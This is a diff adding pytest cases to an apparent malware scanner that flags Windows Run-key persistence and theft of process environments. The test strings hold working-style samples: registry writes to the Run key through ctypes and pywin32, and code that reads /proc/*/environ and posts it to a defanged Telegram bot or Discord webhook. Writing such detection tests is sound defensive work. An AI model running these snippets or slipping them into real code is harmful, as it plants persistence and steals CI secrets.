@@ -117,6 +117,46 @@ def test_such_a_key_read_or_another_class_written_is_no_persistence(
     assert "CPL-THR-009" not in danger(source, mode=mode)
 
 
+# -- blind16: the Run key written through the Win32 API itself (ctypes, pywin32) ---------------
+
+_RUN_KEY = r"Software\Microsoft\Windows\CurrentVersion\Run"
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"""
+        import ctypes
+        from ctypes import wintypes
+        a = ctypes.windll.advapi32
+        h = wintypes.HKEY()
+        a.RegOpenKeyExW(wintypes.HKEY(0x80000001), r"{_RUN_KEY}", 0, 0x20006, ctypes.byref(h))
+        a.RegSetValueExW(h, "Upd", 0, 1, PAYLOAD, 64)
+        """,
+        f"""
+        import win32api, win32con
+        k = win32api.RegOpenKeyEx(win32con.HKEY_CURRENT_USER, r"{_RUN_KEY}", 0, 0xF003F)
+        win32api.RegSetValueEx(k, "Upd", 0, win32con.REG_SZ, PAYLOAD)
+        """,
+    ],
+    ids=["ctypes-advapi32", "pywin32"],
+)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_the_run_key_written_through_the_win32_api_is_persistence(
+    source: str, mode: ScanMode
+) -> None:
+    assert "CPL-THR-009" in danger(source, mode=mode)
+
+
+def test_the_win32_api_writing_another_key_is_no_persistence() -> None:
+    source = r"""
+    import ctypes
+    a = ctypes.windll.advapi32
+    a.RegSetValueExW(h, "Theme", 0, 1, r"Software\MyApp\Settings", 64)
+    """
+    assert "CPL-THR-009" not in danger(source, mode=ScanMode.PACKAGE)
+
+
 # -- blind14: a clipper reading and replacing the clipboard through a Tk window ----------------
 
 _TK_CLIPPER = r"""
@@ -241,3 +281,51 @@ def test_a_longer_name_ending_with_a_drop_host_is_not_it(host: str) -> None:
         _UPLOAD_THROUGH_A_FILE.format(host=host), "pkg/m.py", mode=ScanMode.PACKAGE
     )
     assert not {f.rule_id for f in findings} & {"CPL-THR-004", "CPL-NET-004"}
+
+
+# -- blind16: the environments of the host's processes, where a CI runner keeps its secrets -----
+
+_TELEGRAM = "https://api.telegram.org/bot7000000000:DEFANGEDdefangedDEFANGEDdefanged00/sendDocument"
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"""
+        import glob, requests
+        found = b"".join(open(p, "rb").read() for p in glob.glob("/proc/[0-9]*/environ"))
+        requests.post("{_TELEGRAM}", files={{"document": ("ci.txt", found)}})
+        """,
+        """
+        import requests
+        env = open("/proc/self/environ", "rb").read().replace(b"\\0", b"\\n")
+        requests.post("https://discord.com/api/webhooks/1/DEFANGED", data={"content": env})
+        """,
+    ],
+    ids=["every-process", "self"],
+)
+def test_process_environments_sent_to_a_drop_are_exfiltration(source: str) -> None:
+    assert "CPL-THR-004" in danger(source, mode=ScanMode.PACKAGE)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a process inspector reading another process's environment for its own output
+        """
+        def environ(pid):
+            with open("/proc/%d/environ" % pid, "rb") as f:
+                return dict(kv.split(b"=", 1) for kv in f.read().split(b"\\0") if kv)
+        """,
+        # a notifier that posts a message of its own, in a file that never reads one
+        f"""
+        import requests
+        requests.post("{_TELEGRAM}", data={{"chat_id": 1, "text": "build done"}})
+        """,
+    ],
+    ids=["inspector", "notifier"],
+)
+def test_a_process_environment_read_without_a_drop_or_a_drop_alone_is_no_theft(
+    source: str,
+) -> None:
+    assert not danger(source, mode=ScanMode.PACKAGE) & {"CPL-THR-004", "CPL-THR-007"}
